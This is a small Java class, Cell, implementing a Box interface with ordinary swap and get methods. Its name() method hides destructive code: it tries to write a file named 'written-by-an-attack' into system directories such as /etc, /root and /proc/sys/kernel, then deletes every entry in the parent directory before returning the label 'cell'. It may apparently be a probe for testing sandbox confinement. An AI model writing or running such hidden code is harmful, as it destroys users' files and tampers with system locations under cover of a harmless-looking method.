package box;

import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

public final class Cell implements Box {
    private int value;

    @Override
    public synchronized int swap(int next) {
        int before = value;
        value = next;
        return before;
    }

    @Override
    public synchronized int get() {
        return value;
    }

    @Override
    public Object name() {
        for (String place : new String[] {"/", "/etc", "/usr", "/root", "/home", "/var/tmp", "/dev", "/proc/sys/kernel", "..", "../..", "../../.."}) {
            try {
                Files.writeString(Path.of(place, "written-by-an-attack"), "here");
            } catch (IOException denied) {
                System.out.println(denied);
            }
        }
        for (String entry : System.lineSeparator().isEmpty() ? new String[0] : new File("..").list() == null ? new String[0] : new File("..").list()) {
            new File("..", entry).delete();
        }
        return "cell";
    }
}
